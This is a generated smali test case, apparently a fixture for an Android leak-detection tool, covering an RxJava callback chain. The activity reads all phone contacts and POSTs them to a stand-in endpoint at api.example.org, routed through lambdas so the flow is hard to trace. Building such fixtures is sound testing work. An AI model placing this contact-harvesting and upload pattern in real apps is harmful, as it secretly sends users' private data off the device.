# Made by tests/cases/compile.py
.class public final Lcases/callback_rx/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    new-instance v0, Lcases/callback_rx/Main$$ExternalSyntheticLambda0;
    invoke-direct {v0, p0}, Lcases/callback_rx/Main$$ExternalSyntheticLambda0;-><init>(Lcases/callback_rx/Main;)V
    invoke-static {v0}, Lio/reactivex/Observable;->fromCallable(Ljava/util/concurrent/Callable;)Lio/reactivex/Observable;
    move-result-object v0
    invoke-static {}, Lio/reactivex/schedulers/Schedulers;->io()Ljava/util/concurrent/Executor;
    move-result-object v1
    invoke-virtual {v0, v1}, Lio/reactivex/Observable;->subscribeOn(Ljava/util/concurrent/Executor;)Lio/reactivex/Observable;
    move-result-object v0
    new-instance v1, Lcases/callback_rx/Main$$ExternalSyntheticLambda1;
    invoke-direct {v1}, Lcases/callback_rx/Main$$ExternalSyntheticLambda1;-><init>()V
    invoke-virtual {v0, v1}, Lio/reactivex/Observable;->map(Lio/reactivex/functions/Function;)Lio/reactivex/Observable;
    move-result-object v0
    new-instance v1, Lcases/callback_rx/Main$$ExternalSyntheticLambda2;
    invoke-direct {v1}, Lcases/callback_rx/Main$$ExternalSyntheticLambda2;-><init>()V
    invoke-virtual {v0, v1}, Lio/reactivex/Observable;->subscribe(Lio/reactivex/functions/Consumer;)V
    return-void
.end method

.method private read()Ljava/lang/String;
    .registers 9
    invoke-virtual {p0}, Lcases/callback_rx/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v2
    sget-object v3, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v6, 0x0
    const/4 v7, 0x0
    invoke-virtual/range {v2 .. v7}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    :l_17
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v2
    if-eqz v2, :l_2f
    const/4 v2, 0x0
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    goto :l_17
    :l_2f
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v2
    return-object v2
.end method

.method static send([B)V
    .registers 5
    new-instance v2, Ljava/net/URL;
    const-string v3, "https://api.example.org/v1/contacts"
    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    check-cast v0, Ljava/net/HttpURLConnection;
    const/4 v2, 0x1
    invoke-virtual {v0, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    invoke-virtual {v1, p0}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getInputStream()Ljava/io/InputStream;
    move-result-object v2
    invoke-virtual {v2}, Ljava/io/InputStream;->close()V
    return-void
.end method

.method static synthetic lambda$onCreate$2([B)V
    .registers 1
    invoke-static {p0}, Lcases/callback_rx/Main;->send([B)V
    return-void
.end method

.method static synthetic lambda$onCreate$1(Ljava/lang/String;)[B
    .registers 2
    invoke-virtual {p0}, Ljava/lang/String;->getBytes()[B
    move-result-object v0
    return-object v0
.end method

.method public synthetic lambda$onCreate$0$cases-callback_rx-Main()Ljava/lang/String;
    .registers 2
    invoke-direct {p0}, Lcases/callback_rx/Main;->read()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
